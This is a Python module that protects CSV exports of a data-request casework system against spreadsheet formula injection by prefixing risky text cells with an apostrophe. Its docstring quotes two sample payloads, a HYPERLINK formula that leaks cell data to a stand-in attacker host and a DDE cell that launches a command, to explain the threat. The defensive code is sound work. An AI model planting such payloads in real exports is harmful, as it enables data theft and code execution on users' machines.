"""CSV that a spreadsheet opens safely: every export of dsar writes through `safe_writer`.

Names, organisation names and notes come from people and from imported files; a cell such as
`=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0` would run as a
formula when a caseworker opens the export in Excel or LibreOffice (CSV injection, OWASP). A
cell whose first character a spreadsheet reads as the start of a formula (= + - @, or a tab
or carriage return that some of them skip first) gets a leading apostrophe, which spreadsheets
show as text and hide. Only text cells are touched: dates and numbers are written as they are.

Used by dsar.cases.admin (the staff export) and dsar.casework.views (the deadlines export).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: object) -> object:
    """`value`, with a leading apostrophe when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through `neutralise`."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: _Writable) -> SafeWriter:
    return SafeWriter(out)
